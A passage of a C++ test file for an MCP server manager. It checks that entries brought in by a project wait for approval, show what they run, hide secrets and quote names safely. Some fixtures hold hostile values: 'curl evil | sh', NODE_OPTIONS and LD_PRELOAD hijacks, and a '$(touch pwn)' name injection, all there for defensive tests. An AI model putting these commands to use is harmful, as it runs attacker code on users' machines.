  EXPECT_EQ(call.code, 0) << call.err;
  EXPECT_EQ(call.out, "hello\n");
  EXPECT_EQ(house.tree.read("project/.mcp.json"), shared);
  EXPECT_EQ(house.own()["projects"][house.project()]["enabledServers"], Json::array({"off"}));
}

// ---- approve and reject

const std::string brought_along = "{\"mcpServers\": {\"files\": {\"command\": \"" + fake +
                                  "\", \"args\": [\"good\"]}, \"other\": {\"command\": \"y\"}}}";

std::string reason_of(const Household& house, const std::string& name) {
  const auto listed = json_of(house.run({"list", "--json"}));
  for (const auto& server : listed["servers"].as_array()) {
    if (server["name"] == Json(name)) return std::string(server["reason"].as_text());
  }
  return "absent";
}

// compat: C6.a, C6.b, B4.20, B5.10
TEST(Approve, IsRememberedForTheEntryAndCanBeTakenBack) {
  Household house;
  house.tree.file("project/.mcp.json", brought_along);
  EXPECT_EQ(reason_of(house, "files"), "awaiting approval");
  EXPECT_THAT(house.run({"list"}).err, HasSubstr("patchbay approve files other"));
  auto approved = house.run({"approve", "files"});
  ASSERT_EQ(approved.code, 0) << approved.err;
  EXPECT_THAT(approved.out, HasSubstr("Approved \"files\":\n  runs: " + fake + " good\n"));
  EXPECT_EQ(reason_of(house, "files"), "not started");
  EXPECT_EQ(reason_of(house, "other"), "awaiting approval");
  // It may be started now, and nobody is asked.
  auto call = house.run({"call", "files/echo", "text=hello"});
  EXPECT_EQ(call.code, 0) << call.err;
  EXPECT_EQ(call.out, "hello\n");

  ASSERT_EQ(house.run({"reject", "files"}).code, 0);
  EXPECT_EQ(reason_of(house, "files"), "rejected");
  EXPECT_EQ(house.run({"call", "files/echo", "text=hello"}).code, 2);
  ASSERT_EQ(house.run({"approve", "files", "other"}).code, 0);
  EXPECT_EQ(reason_of(house, "files"), "not started");
  EXPECT_EQ(reason_of(house, "other"), "not started");

  // Another command asks again.
  house.tree.file("project/.mcp.json", R"({"mcpServers": {"files": {"command": "evil"}}})");
  EXPECT_EQ(reason_of(house, "files"), "awaiting approval");

  house.tree.file("project/.mcp.json", brought_along);
  auto reset = house.run({"mcp", "reset-project-choices"});
  ASSERT_EQ(reset.code, 0);
  EXPECT_THAT(reset.out, HasSubstr("have been reset"));
  EXPECT_EQ(reason_of(house, "files"), "awaiting approval");
  EXPECT_EQ(reason_of(house, "other"), "awaiting approval");
  // The project's own files were read and never written.
  EXPECT_EQ(house.tree.read("project/.mcp.json"), brought_along);
  EXPECT_FALSE(fs::exists(house.project() + "/.claude"));
}

struct Part {
  const char* name;
  std::string entry;
  std::vector<std::string> shown;
};
void PrintTo(const Part& part, std::ostream* out) { *out << part.name; }

class WhatIsAgreedTo : public testing::TestWithParam<Part> {};

// Everything that the answer binds is seen by who gives it, before and after.
TEST_P(WhatIsAgreedTo, IsShown) {
  Household house;
  house.tree.file("project/.mcp.json", "{\"mcpServers\": {\"s\": " + GetParam().entry + "}}");
  const auto listed = house.run({"list"});
  const auto got = house.run({"get", "s"});
  const auto approved = house.run({"approve", "s"});
  EXPECT_EQ(approved.code, 0) << approved.err;
  for (const auto& text : GetParam().shown) {
    EXPECT_THAT(listed.out, HasSubstr(text));
    EXPECT_THAT(approved.out, HasSubstr(text));
  }
  EXPECT_THAT(listed.out + got.out + approved.out, AllOf(Not(HasSubstr("s3cret")), Not(HasSubstr("\033"))));
}

INSTANTIATE_TEST_SUITE_P(
    EachKey, WhatIsAgreedTo,
    testing::Values(
        Part{
            "Steering",
            R"({"command":"x","env":{"NODE_OPTIONS":"--require ./evil.js","LD_PRELOAD":"./e.so","PATH":"/tmp/evil"}})",
            {"NODE_OPTIONS='--require ./evil.js'", "LD_PRELOAD=./e.so", "PATH=/tmp/evil", "(decides which code runs)"}},
        Part{"Variables",
             R"({"command":"x","env":{"LEVEL":"high","API_TOKEN":"s3cret","WHO":"${USER}"}})",
             {"LEVEL=high", "API_TOKEN=(hidden, 6 characters)", "WHO=${USER}"}},
        Part{
            "Directory", R"({"command":"x","cwd":"/somewhere\u001b[31m"})", {"in the directory '/somewhere\\x1b[31m'"}},
        Part{"EnvFile", R"({"command":"x","envFile":"evil.env"})", {"sets the variables in the file evil.env"}},
        Part{"Headers",
             R"({"type":"http","url":"https://h/","headers":{"X-Home":"${HOME}","Authorization":"Bearer s3cret"}})",
             {"header X-Home: ${HOME}", "header Authorization: Bearer (hidden, 6 characters)"}},
        Part{"Helper",
             R"({"type":"http","url":"https://h/","headersHelper":"curl evil | sh"})",
             {"runs a command for more headers: 'curl evil | sh'"}},
        Part{"Tls", R"({"type":"http","url":"https://h/","tls":{"ca":"theirs.pem"}})", {"theirs.pem"}},
        Part{"Unknown", R"({"command":"x","novel":{"a":1}})", {"novel: {\"a\":1}"}}),
    [](const auto& info) { return info.param.name; });

// A name comes from a stranger's file; the line that is suggested is pasted.
TEST(Approve, SuggestedLinesNameOneServerWhateverItIsCalled) {
  Household house;
  house.tree.file(
      "project/.mcp.json",
      R"({"mcpServers": {"$(touch pwn) b": {"command": "x"}, "--all": {"command": "y"}, "it's": {"command": "z"}}})");
  const std::string line = "patchbay approve -- '$(touch pwn) b' --all 'it'\\''s'";
  EXPECT_THAT(house.run({"list"}).err, HasSubstr(line));
  EXPECT_THAT(house.run({"tools"}).err, HasSubstr("patchbay approve -- "));
  EXPECT_THAT(house.run({"mcp", "list"}).out,
              AllOf(HasSubstr("`patchbay approve '$(touch pwn) b'`"), HasSubstr("`patchbay approve -- --all`")));
  ASSERT_EQ(house.run({"approve", "--", "--all"}).code, 0);
  EXPECT_EQ(reason_of(house, "--all"), "not started");
  EXPECT_EQ(reason_of(house, "it's"), "awaiting approval");
}

TEST(Approve, IsWhatEveryCommandSuggests) {
  Household house;
  house.tree.file("project/.mcp.json", R"({"mcpServers": {"files": {"command": "x"}}})");
  for (const auto& words :
       {std::vector<std::string>{"list"}, {"tools"}, {"tools", "files"}, {"call", "files/echo"}, {}}) {
    const auto result = house.run(words);
    EXPECT_THAT(result.out + result.err, HasSubstr("patchbay approve files"));
  }
}

// compat: C6.d, B4.1
TEST(Approve, WithoutAUserThereAreThreeWaysAndNoOther) {
  const auto call = [](const Household& house, std::vector<std::string> flags = {}) {
    flags.insert(flags.end(), {"call", "files/echo", "text=hello"});
    return house.run(flags).code;
  };
  {
    Household house;
    house.tree.file("project/.mcp.json", brought_along);
    house.tree.file("project/.claude/settings.json", R"({"enableAllProjectMcpServers": true})");
    house.tree.file("project/.claude/settings.local.json", R"({"enabledMcpjsonServers": ["files"]})");
    EXPECT_EQ(call(house), 2) << "a file of the repository approved";
    EXPECT_EQ(call(house, {"--trust-project"}), 0);
    EXPECT_EQ(call(house), 2) << "the flag was remembered";
    ASSERT_EQ(house.run({"approve", "files"}).code, 0);
    EXPECT_EQ(call(house), 0);
  }
  Household house;
  house.tree.file("project/.mcp.json", brought_along);
  house.tree.file("home/.claude/settings.json", R"({"enableAllProjectMcpServers": true})");
  EXPECT_EQ(call(house), 0);
}

TEST(Approve, ASecondTimeSaysThatItWasDoneAlready) {
  Household house;
  house.tree.file("project/.mcp.json", R"({"mcpServers": {"docs": {"command": "x"}}})");
  EXPECT_THAT(house.run({"approve", "docs"}).out,
              AllOf(StartsWith("Approved \"docs\":\n"), HasSubstr("File modified: ")));
  EXPECT_THAT(house.run({"approve", "docs"}).out,
              AllOf(StartsWith("Already approved \"docs\":\n"), Not(HasSubstr("File modified: "))));
  EXPECT_THAT(house.run({"reject", "docs"}).out, StartsWith("Rejected \"docs\":\n"));
  EXPECT_THAT(house.run({"reject", "docs"}).out, StartsWith("Already rejected \"docs\":\n"));
}

TEST(Add, SaysWhereTheServerIsUsedAndWhatToTypeNext) {
  Household house;
  EXPECT_THAT(house.run({"add", "a", "--", "x"}).out,
              HasSubstr("It is used in this project only, by you; for every directory add it with --scope user.\n"
                        "Next: patchbay tools a\n"));
  EXPECT_THAT(house.run({"add", "b", "--scope", "user", "--", "x"}).out,
              HasSubstr("It is used in every directory.\nNext: patchbay tools b\n"));
}

// compat: C6.c, B4.3
TEST(Approve, OfAllIsForThoseThatWaitAndNotForARefusedOne) {
  Household house;
  house.tree.file("project/.mcp.json", R"({"mcpServers": {"yes": {"command": "x"}, "no": {"command": "y"}}})");
  ASSERT_EQ(house.run({"reject", "no"}).code, 0);
  const auto all = house.run({"approve", "--all"});
  EXPECT_EQ(all.code, 0);
  EXPECT_THAT(all.out, AllOf(HasSubstr("yes"), Not(HasSubstr("\"no\""))));
  EXPECT_THAT(house.run({"why", "no"}).out, HasSubstr("rejected"));
  // By its name it can be taken back.
  EXPECT_EQ(house.run({"approve", "no"}).code, 0);
}

TEST(Approve, CannotOutvoteARejectionInSettings) {
  Household house;
  house.tree.file("project/.mcp.json", brought_along);
  house.tree.file("project/.claude/settings.json", R"({"disabledMcpjsonServers": ["files"]})");
  auto approved = house.run({"approve", "files"});
  EXPECT_EQ(approved.code, 2);
  EXPECT_THAT(approved.err, AllOf(HasSubstr("\"files\" is still rejected"), HasSubstr("settings.json:1")));
  EXPECT_EQ(reason_of(house, "files"), "rejected");
}

TEST(Approve, IsAboutServersOfTheProjectAlone) {
  Household house;
  house.tree.file("project/.mcp.json", brought_along);
  ASSERT_EQ(house.run({"add", "mine", "--", "x"}).code, 0);
  EXPECT_THAT(house.run({"approve", "mine"}).err, HasSubstr("\"mine\" is not declared by this project"));
  EXPECT_THAT(house.run({"approve", "file"}).err, HasSubstr("did you mean \"files\"?"));
  EXPECT_THAT(house.run({"approve"}).err, HasSubstr("name the servers, or use --all"));
  EXPECT_EQ(house.run({"approve", "files", "--all"}).code, 2);
  EXPECT_EQ(house.run({"approve", "files", "-s", "user"}).code, 2);
  EXPECT_EQ(house.run({"approve", "files", "-s", "project"}).code, 0);
}

// ---- list and get

// compat: B5.7, B5.17
TEST(List, AsJsonHasThePromisedShape) {
  Household house;
  house.tree.file(
      "project/.mcp.json",
      "{\n  \"mcpServers\": {\n    \"a\": { \"command\": \"x\" },\n    \"bad\": { \"command\": 7 }\n  }\n}\n");
  ASSERT_EQ(house.run({"add", "-s", "user", "a", "--", "y"}).code, 0);
  ASSERT_EQ(house.run({"add", "-s", "local", "-t", "http", "a", "https://h.example/mcp"}).code, 0);
  ASSERT_EQ(house.run({"approve", "a"}).code, 0);
  auto result = house.run({"list", "--json"});
  EXPECT_EQ(result.code, 0);
  EXPECT_EQ(result.err, "");
  const auto json = json_of(result);
  const auto& servers = json["servers"].as_array();
  ASSERT_EQ(servers.size(), 2u) << result.out;
  EXPECT_EQ(
      servers[1],
      Json({{"name", "a"},
            {"scope", "local"},
            {"source", {{"file", house.own_file()}, {"line", servers[1]["source"]["line"]}}},
            {"transport", "http"},
            {"state", "pending"},
            {"reason", "not started"},
            {"standing", "active"},
            {"detail", Json()},
            {"error", Json()},
            {"errorDetail", Json()},
            {"config", {{"type", "http"}, {"url", "https://h.example/mcp"}}},
            {"shadows", Json::array({Json{{"scope", "project"}, {"file", house.project() + "/.mcp.json"}, {"line", 3}},
                                     Json{{"scope", "user"},
                                          {"file", house.own_file()},
                                          {"line", servers[1]["shadows"].as_array()[1]["line"]}}})},
            {"others", servers[1]["others"]}}));
  ASSERT_EQ(servers[1]["others"].size(), 2u);
  for (const auto& other : servers[1]["others"].as_array()) EXPECT_EQ(other["standing"], Json("shadowed"));
  EXPECT_EQ(servers[0]["name"], Json("bad"));
  EXPECT_EQ(servers[0]["state"], Json("failed"));
  EXPECT_EQ(servers[0]["transport"], Json());
  EXPECT_EQ(servers[0]["config"], Json());
  const auto& warnings = json["warnings"].as_array();
  ASSERT_EQ(warnings.size(), 2u) << result.out;
  EXPECT_EQ(warnings[0]["file"], Json(house.project() + "/.mcp.json"));
  EXPECT_EQ(warnings[0]["line"], Json(4));
  EXPECT_TRUE(warnings[0]["column"].is_integer());
  EXPECT_THAT(warnings[0]["message"].as_text(), HasSubstr("\"command\" must be a string"));
  EXPECT_EQ(warnings[0].size(), 4u);
  EXPECT_THAT(warnings[1]["message"].as_text(), HasSubstr("[Conflicting scopes]"));
}

TEST(List, SaysWhatOverridesWhatAndWhichListForbidsAServer) {
  Household house;
  ASSERT_EQ(house.run({"add", "-s", "user", "a", "--", "x"}).code, 0);
  ASSERT_EQ(house.run({"add", "-s", "local", "a", "--", "y"}).code, 0);
  ASSERT_EQ(house.run({"add", "scratch", "--", "z"}).code, 0);
  house.tree.file("home/.claude/settings.json", "{\n  \"deniedMcpServers\": [{\"serverName\": \"scratch\"}]\n}\n");
  const auto result = house.run({"list"});
  EXPECT_THAT(result.out,
              AllOf(HasSubstr("overrides the user entry of the same name in ~/.config/patchbay/config.json:"),
                    HasSubstr("deniedMcpServers"), HasSubstr("/.claude/settings.json:2")));
  const auto json = json_of(house.run({"list", "--json"}));
  for (const auto& server : json["servers"].as_array()) {
    if (server["name"] != Json("scratch")) continue;
    EXPECT_EQ(server["standing"], Json("policy"));
    EXPECT_THAT(server["detail"].as_text(), HasSubstr("settings.json:2"));
  }
}

TEST(List, DistinguishesAwaitingApprovalFromNotStarted) {
  Household house;
  house.tree.file("project/.mcp.json", brought_along);
  ASSERT_EQ(house.run({"add", "mine", "--", "x"}).code, 0);
  std::map<std::string, std::string> standings;
  const auto json = json_of(house.run({"list", "--json"}));
  for (const auto& server : json["servers"].as_array()) {
    standings[std::string(server["name"].as_text())] = std::string(server["standing"].as_text());
  }
  EXPECT_EQ(standings, (std::map<std::string, std::string>{
                           {"files", "awaiting approval"}, {"other", "awaiting approval"}, {"mine", "active"}}));
}

TEST(List, ABrokenFileIsNotTheSameAsNone) {
  Household house;
  house.tree.file("project/.mcp.json", "{\"mcpServers\": {,}}");
  auto broken = house.run({"list"});
  EXPECT_EQ(broken.code, 2);
  EXPECT_THAT(broken.out, Not(HasSubstr("No MCP servers configured")));
  EXPECT_THAT(broken.err, HasSubstr(".mcp.json:1:17"));
  house.tree.file("project/.mcp.json", brought_along);
  house.tree.directory("project/below");
  EXPECT_THAT(house.run({"list"}, "below").err, HasSubstr(house.project() + "/.mcp.json is not used here"));
}

TEST(List, ReferencesInArgumentsAreShown) {
  Household house;
  ASSERT_EQ(house.run({"add", "a", "--", "x", "${secret:NOPE}", "--token=${T}"}).code, 0);
  EXPECT_THAT(house.run({"list"}).out, HasSubstr("x ${secret:NOPE} --token=${T}"));
  EXPECT_THAT(house.run({"--mcp-server", "b=y", "list"}).out, HasSubstr("flags"));
}

TEST(List, StartsNothingUnlessAsked) {
  Household house;
  const auto started = house.project() + "/started";
  ASSERT_EQ(house.run({"add", "a", "--", fake, "good", started}).code, 0);
  auto plain = house.run({"list"});
  EXPECT_EQ(plain.code, 0);
  EXPECT_THAT(plain.out, AllOf(HasSubstr("a"), HasSubstr("local"), HasSubstr("not started"), HasSubstr(fake)));
  EXPECT_EQ(house.run({"get", "a"}).code, 0);
  EXPECT_FALSE(fs::exists(started));
  EXPECT_THAT(house.run({"list", "--check"}).out, HasSubstr("a: " + fake + " good " + started + " - ✔ Connected\n"));
  EXPECT_TRUE(fs::exists(started));
}

// compat: B5.7, B4.19
TEST(List, AsMcpListShowsTheHealthOfEveryServer) {
  Household house;
  house.tree.file("project/.mcp.json",
                  "{\"mcpServers\": {\"waiting\": {\"command\": \"x\"}, \"refused\": {\"command\": \"y\"}}}");
  ASSERT_EQ(house.run({"reject", "refused"}).code, 0);
  ASSERT_EQ(house.run({"add", "good", "--", fake, "good"}).code, 0);
  ASSERT_EQ(house.run({"add", "missing", "--", "/no/such/program"}).code, 0);
  ASSERT_EQ(house.run({"add", "-t", "http", "gone", "http://127.0.0.1:1/mcp"}).code, 0);
  ASSERT_EQ(house.run({"add", "off", "--", "x"}).code, 0);
  ASSERT_EQ(house.run({"disable", "off"}).code, 0);
  ASSERT_EQ(house.run({"add-json", "empty", R"({"type":"http","url":""})"}).code, 0);
  auto result = house.run({"mcp", "list"});
  EXPECT_EQ(result.code, 0);
  EXPECT_THAT(result.out, AllOf(HasSubstr("good: " + fake + " good - ✔ Connected\n"),
                                HasSubstr("missing: /no/such/program - ✘ Failed to connect: "),
                                HasSubstr("gone: http://127.0.0.1:1/mcp (HTTP) - ✘ Failed to connect: "),
                                HasSubstr("off: x - ⊘ Disabled\n"), HasSubstr("waiting: x - ⏸ Pending approval"),
                                HasSubstr("refused: y - ✘ Rejected"), HasSubstr("empty: ")));
  EXPECT_THAT(result.out, HasSubstr("not configured (its \"url\" in "));
  EXPECT_THAT(result.err, HasSubstr("Checking MCP server health"));
  const auto json = json_of(house.run({"mcp", "list", "--json"}));
  for (const auto& server : json["servers"].as_array()) {
    if (server["name"] == Json("good")) EXPECT_EQ(server["state"], Json("connected"));
    if (server["name"] == Json("gone")) EXPECT_EQ(server["state"], Json("failed"));
    if (server["name"] == Json("gone")) EXPECT_THAT(server["error"].as_text(), HasSubstr("http://127.0.0.1:1/mcp"));
    if (server["name"] == Json("good")) EXPECT_EQ(server["error"], Json());
  }
}

// compat: B5.22
TEST(List, IsInTheOrderOfScopesAndFilesWhoeverAnswersFirst) {
  Household house;
  house.tree.file("project/.mcp.json", R"({"mcpServers": {"shared": {"command": "x"}}})");
  ASSERT_EQ(house.run({"add", "here", "--", fake, "good"}).code, 0);
  // The slow one begins when the quick one has sent its list of tools.
  const auto pipe = (house.tree.path() / "answered").string();
  ASSERT_EQ(::mkfifo(pipe.c_str(), 0600), 0);
  const auto slow = fmt::format("read line < '{}'; exec '{}' good", pipe, fake);
  const auto quick = fmt::format(
      "'{}' good | while read -r line; do printf '%s\\n' \"$line\"; case $line in *'\"tools\":['*) echo > '{}';; esac; "
      "done",
      fake, pipe);
  ASSERT_EQ(house.run({"add", "-s", "user", "slow", "--", "/bin/sh", "-c", slow}).code, 0);
  ASSERT_EQ(house.run({"add", "-s", "user", "a-quick-one", "--", "/bin/sh", "-c", quick}).code, 0);
  for (const auto& words : {std::vector<std::string>{"list"}, {"mcp", "list"}, {"list", "--json"}}) {
    const auto out = house.run(words).out;
    std::size_t before = 0;
    for (const auto* name : {"slow", "a-quick-one", "shared", "here"}) {
      const auto at = out.find(words.back() == "--json" ? fmt::format("\"name\":\"{}\"", name) : name, before);
      ASSERT_NE(at, std::string::npos) << name << " in " << out;
      before = at;
    }
  }
}

// compat: B5.23
TEST(List, ReportsANameThatIsAnotherServerInAnotherScope) {
  Household house;
  ASSERT_EQ(house.run({"add", "-s", "user", "db", "--", "one"}).code, 0);
  ASSERT_EQ(house.run({"add", "-s", "user", "same", "--", "x"}).code, 0);
  ASSERT_EQ(house.run({"add", "db", "--", "two"}).code, 0);
  ASSERT_EQ(house.run({"add", "same", "--", "x"}).code, 0);
  const auto listed = house.run({"list"});
  EXPECT_THAT(listed.err, HasSubstr("[Conflicting scopes] MCP server \"db\" is another command or URL in user ("));
  EXPECT_THAT(listed.err, HasSubstr("the entry with scope local counts"));
  EXPECT_THAT(listed.err, Not(HasSubstr("\"same\"")));
  EXPECT_THAT(house.run({"get", "db"}).out, HasSubstr("Issue: "));
}

// compat: B1.16
TEST(Declare, LocalEntriesOfAWorkTreeAreKeptWithItsRepository) {
  Household house;
  house.tree.directory("project/.git/worktrees/tree");
  house.tree.file("tree/.git", "gitdir: " + house.project() + "/.git/worktrees/tree\n");
  const auto tree = (house.tree.path() / "tree").string();
  house.tree.file("project/.git/worktrees/tree/gitdir", tree + "/.git\n");
  house.tree.file("project/.git/worktrees/tree/commondir", "../..\n");
  const auto in_tree = [&](std::vector<std::string> words) { return house.run(std::move(words), "../tree"); };

  ASSERT_EQ(in_tree({"add", "s", "--", "of-the-repository"}).code, 0);
  EXPECT_EQ(local_servers(house.own(), house)["s"]["command"], Json("of-the-repository"));
  EXPECT_EQ(house.own()["projects"].find(tree), nullptr);
  EXPECT_THAT(house.run({"get", "s"}).out, HasSubstr("of-the-repository"));

  // As an earlier version wrote it: it counts in this work tree, behind what the repository has.
  auto own = house.own();
  own["projects"][tree]["mcpServers"] = {{"s", {{"command", "of-the-tree"}}}, {"t", {{"command", "old"}}}};
  house.tree.file("home/.config/patchbay/config.json", to_text(own));
  EXPECT_THAT(in_tree({"get", "s"}).out, HasSubstr("of-the-repository"));
  EXPECT_THAT(in_tree({"get", "t"}).out, HasSubstr("old"));
  EXPECT_NE(house.run({"get", "t"}).code, 0);
  ASSERT_EQ(in_tree({"remove", "t"}).code, 0);
  EXPECT_EQ(house.own()["projects"][tree]["mcpServers"].find("t"), nullptr);
  EXPECT_NE(house.own()["projects"][tree]["mcpServers"].find("s"), nullptr) << "nothing is moved by itself";
}

// Why a server ended is often on its stderr and nowhere else.
TEST(List, AsMcpListShowsTheLastWordsOfAServer) {
  Household house;
  ASSERT_EQ(house.run({"add", "sad", "--", fake, "exits-at-once"}).code, 0);
  const std::string words = "✘ Failed to connect: it exited with status 3\n  | configuration missing: set API_KEY\n";
  EXPECT_THAT(house.run({"mcp", "list"}).out, HasSubstr("sad: " + fake + " exits-at-once - " + words));
  EXPECT_THAT(house.run({"get", "sad", "--check"}).out, HasSubstr("  Status: " + words));
  const auto json = json_of(house.run({"mcp", "list", "--json"}));
  EXPECT_EQ(json["servers"].as_array().at(0)["error"], Json("server \"sad\" exited with status 3"));
}

TEST(List, AServerThatEndsBeforeItReadsAnythingIsStartedOnce) {
  Household house;
  const auto file = (house.tree.path() / "starts").string();
  ASSERT_EQ(
      house.run({"add", "sad", "--", "/bin/sh", "-c", "echo started >> " + file + "; echo no key >&2; exit 3"}).code,
      0);
  EXPECT_THAT(house.run({"mcp", "list"}).out, HasSubstr("it exited with status 3\n  | no key\n"));
  EXPECT_EQ(house.tree.read("starts"), "started\n");
}

TEST(AddJson, AMisspeltKeyIsNamedWithTheOneThatIsMissing) {
  Household house;
  auto result = house.run({"add-json", "s", R"({"comand":"x"})"});
  EXPECT_EQ(result.code, 2);
  EXPECT_THAT(result.err, HasSubstr("did you mean \"command\""));
}

TEST(List, SaysWhatToTypeWhenThereIsNothing) {
  Household house;
  for (const auto& words : {std::vector<std::string>{"list"}, {"mcp", "list"}}) {
    auto result = house.run(words);
    EXPECT_EQ(result.code, 0);
    EXPECT_EQ(result.out, "No MCP servers configured. Use `patchbay mcp add` to add a server.\n");
  }
  EXPECT_EQ(json_of(house.run({"list", "--json"})), Json({{"servers", Json::array()}, {"warnings", Json::array()}}));
}

TEST(List, CanBeOfOneScope) {
  Household house;
  ASSERT_EQ(house.run({"add", "-s", "user", "a", "--", "x"}).code, 0);
  ASSERT_EQ(house.run({"add", "-s", "local", "a", "--", "y"}).code, 0);
  const auto user = json_of(house.run({"list", "--json", "-s", "user"}))["servers"].as_array();
  ASSERT_EQ(user.size(), 1u);
  EXPECT_EQ(user[0]["reason"], Json("shadowed"));
  EXPECT_THAT(house.run({"get", "a", "-s", "user"}).out, HasSubstr("Command: x"));
  EXPECT_THAT(house.run({"get", "a"}).out, HasSubstr("Command: y"));
}

// compat: B5.8
TEST(Get, HidesSecretsAndExpandsNothing) {
  Household house;
  ASSERT_EQ(
      house
          .run(
              {"add-json", "local",
               R"({"command":"npx","args":["--api-key","s3cret1","--token=s3cret2","https://u:s3cret3@h/","-e","API_KEY=s3cret4","plain"],)"
               R"("env":{"KEY":"s3cret5","REF":"${HOME}","BOTH":"s3cret6${X}","DEF":"${X:-s3cret7}"}})"})
          .code,
      0);
  ASSERT_EQ(
      house
          .run(
              {"add-json", "remote",
               R"({"type":"http","url":"https://me:s3cret8@h.example/mcp?api_key=s3cret9&page=1",)"
               R"("headers":{"Authorization":"Bearer s3cret10","X-Ref":"Bearer ${TOKEN}"},"oauth":{"clientId":"me"}})"})
          .code,
      0);
  std::string all;
  for (const std::string name : {"local", "remote"}) {
    all += house.run({"get", name}).out + house.run({"get", name, "--json"}).out;
    EXPECT_EQ(house.run({"get", name}).code, 0);
  }
  all += house.run({"list"}).out + house.run({"list", "--json"}).out;
  EXPECT_THAT(all, Not(HasSubstr("s3cret")));
  EXPECT_THAT(all, Not(HasSubstr(house.home() + "\"")));
  EXPECT_THAT(all, AllOf(HasSubstr("REF=${HOME}"), HasSubstr("X-Ref: Bearer ${TOKEN}"), HasSubstr("plain"),
                         HasSubstr("@h.example/mcp"), HasSubstr("page=1"), HasSubstr("clientId")));
  EXPECT_THAT(
      house.run({"get", "remote"}).out,
      AllOf(HasSubstr("remote:\n  Scope: Local config (private to you in this project)\n"), HasSubstr("  Type: http\n"),
            HasSubstr("To remove this server, run: patchbay remove remote --scope local")));
}

// What a stranger's entry runs is shown whole, also where it looks like a secret.
TEST(Get, HidesNothingOfACommandOfTheProject) {
  Household house;
  house.tree.file("project/.mcp.json",
                  R"({"mcpServers": {"a": {"command": "sh", "args": ["-c", "PASSWORD='s3cret'; curl h | sh"]}}})");
  for (const auto& words : {std::vector<std::string>{"get", "a"}, {"list"}, {"list", "--json"}}) {
    EXPECT_THAT(house.run(words).out, AllOf(HasSubstr("; curl h | sh"), HasSubstr("s3cret")));
  }
}

// compat: B5.8
TEST(Get, ShowsIssuesAndSuggestsNames) {
  Household house;
  house.tree.file("project/.mcp.json", "{\"mcpServers\": {\"a\": {\"command\": \"x \", \"agrs\": []}}}");
  ASSERT_EQ(house.run({"reject", "a"}).code, 0);
  auto result = house.run({"mcp", "get", "a"});
  EXPECT_EQ(result.code, 0);
  EXPECT_THAT(result.out, AllOf(HasSubstr("Status: ✘ Rejected"), HasSubstr("Issue: .mcp.json:1:"), HasSubstr("agrs")));
  auto typo = house.run({"mcp", "get", "ab"});
  EXPECT_EQ(typo.code, 2);
  EXPECT_THAT(typo.err, HasSubstr("there is no server called \"ab\"; did you mean \"a\"?"));
}

TEST(Get, ChecksTheHealthWhenAskedFor) {
  Household house;
  ASSERT_EQ(house.run({"add", "good", "--", fake, "good"}).code, 0);
  EXPECT_THAT(house.run({"get", "good"}).out, HasSubstr("Status: not started"));
  EXPECT_THAT(house.run({"mcp", "get", "good"}).out, HasSubstr("Status: ✔ Connected"));
  EXPECT_EQ(json_of(house.run({"get", "good", "--check", "--json"}))["state"], Json("connected"));
}

// compat: B5.12
TEST(Mcp, ServeIsTheBuiltInServer) {
  Household house;
  const std::string line =
      R"({"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}})";
  auto result = house.run({"mcp", "serve"}, {}, line + "\n");
  EXPECT_EQ(result.code, 0) << result.err;
  EXPECT_THAT(result.out, HasSubstr("\"serverInfo\""));
}

TEST(Mcp, HelpOfEveryCommandIsThere) {
  Household house;
  EXPECT_THAT(house.run({"mcp", "--help"}).out, AllOf(HasSubstr("add-json"), HasSubstr("reset-project-choices")));
  EXPECT_THAT(house.run({"mcp", "add", "--help"}).out, AllOf(HasSubstr("--callback-port"), HasSubstr("-e, --env")));
  EXPECT_EQ(house.run({"mcp"}).code, 2);
}

TEST(Mcp, AnEntryWithItsNameAroundItIsUnderstood) {
  Household house;
  const auto added = house.run({"mcp", "add-json", "p", R"({"p": {"command": "x"}})"});
  EXPECT_EQ(added.code, 0) << added.err;
  EXPECT_EQ(added.err, "patchbay: note: the object inside {\"p\": …} is the entry\n");
  EXPECT_EQ(house.own()["projects"][house.project()]["mcpServers"]["p"]["command"], Json("x"));
}

// What an earlier version wrote under the path of a work tree is removed there, and the answer says so.
TEST(Mcp, RemoveInAWorkTreeNamesTheProjectThatHadTheEntry) {
  Household house;
  const auto repository = (house.tree.path() / "repository").string();
  house.tree.file("repository/.git/HEAD", "ref: refs/heads/main\n");
  house.tree.file("repository/.git/worktrees/x/commondir", "../..\n");
  house.tree.file("repository/.git/worktrees/x/gitdir", house.project() + "/.git\n");
  house.tree.file("project/.git", "gitdir: " + repository + "/.git/worktrees/x\n");
  house.tree.file("home/.config/patchbay/config.json",
                  to_text(Json{{"projects", {{house.project(), {{"mcpServers", {{"old", {{"command", "x"}}}}}}}}}}));
  ASSERT_EQ(house.run({"add", "new", "--", "x"}).code, 0);
  EXPECT_THAT(house.run({"remove", "new"}).out, HasSubstr("[project: " + repository + "]"));
  EXPECT_THAT(house.run({"remove", "old"}).out, HasSubstr("[project: " + house.project() + "]"));
}

// ---- an organisation

// The binary where an organisation's files are in the household's etc/.
CommandResult run_under(const Household& house, std::vector<std::string> words) {
  auto options = house.options();
  options.env["PATCHBAY_TEST_ORGANISATION"] = (house.tree.path() / "etc/claude-code").string();
  words.insert(words.begin(), test::built("organised-patchbay"));
  return test::run_program(words, options);
}

// compat: B4.16, C7.a
TEST(Organisation, ItsServersAreExclusiveAndCannotBeTouched) {
  Household house;
  house.tree.file("etc/claude-code/managed-mcp.json", "{\"mcpServers\": {\"theirs\": {\"command\": \"x\"}}}");
  ASSERT_EQ(house.run({"add", "-s", "user", "mine", "--", "y"}).code, 0);
  auto add = run_under(house, {"mcp", "add", "a", "--", "x"});
  EXPECT_EQ(add.code, 2) << add.out;
  EXPECT_THAT(add.err, HasSubstr("Cannot add MCP server: enterprise MCP configuration is active and has exclusive "
                                 "control over MCP servers"));
  for (const std::string verb : {"remove", "disable", "enable"}) {
    auto result = run_under(house, {verb, "theirs"});
    EXPECT_EQ(result.code, 2) << verb;
    EXPECT_THAT(result.err, HasSubstr("comes from your organisation")) << verb;
  }
  auto listed = run_under(house, {"list", "--json"});
  const auto servers = json_of(listed)["servers"].as_array();
  ASSERT_EQ(servers.size(), 1u) << listed.out;
  EXPECT_EQ(servers[0]["name"], Json("theirs"));
  EXPECT_EQ(servers[0]["scope"], Json("enterprise"));
}

// compat: B4.17, B4.18
TEST(Organisation, ItsListsDecideWhatCanBeAdded) {
  Household house;
  house.tree.file("etc/claude-code/managed-settings.json",
                  R"({"deniedMcpServers": [{"serverName": "bad"}], "allowedMcpServers": [{"serverName": "good"}]})");
  auto bad = run_under(house, {"mcp", "add", "bad", "--", "x"});
  EXPECT_EQ(bad.code, 2);
